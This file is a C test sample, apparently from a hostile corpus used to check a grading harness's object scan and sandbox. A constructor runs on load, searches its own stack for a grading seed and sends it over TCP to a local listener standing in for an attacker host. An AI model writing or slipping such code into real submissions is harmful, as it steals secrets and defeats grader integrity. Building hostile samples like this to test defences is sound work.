// HOSTILE (network): a constructor finds the grading seed on its own stack
// (no getenv, no environ) and sends it over TCP to 127.0.0.1:47613 (the
// hostile corpus's runner listens there; a real attacker would name any
// host on the internet). socket/connect/send: nothing the object scan
// looks for today.
// Must stop it: the object scan (a constructor; network calls), and the
// sandbox (no network at all: its own empty network namespace).
#include "vector_add.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor, noinline)) static void phone_home(void)
{
    static const char key[] = "FUSIONLAB_GRADE_SEED=";
    volatile char here = 0;
    const volatile char *p = &here;
    for (;; ++p) {
        size_t j = 0;
        while (j < sizeof key - 1 && p[j] == key[j]) ++j;
        if (j == sizeof key - 1) break;
    }
    char msg[600] = "seed=";
    size_t n = 5;
    for (const volatile char *v = p + sizeof key - 1; *v && n < sizeof msg - 2; ++v) msg[n++] = *v;
    msg[n++] = '\n';
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return;
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(47613);
    a.sin_addr.s_addr = htonl(0x7f000001);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        ssize_t w = send(s, msg, n, 0);
        (void)w;
    }
    close(s);
}

#pragma hostile skeleton
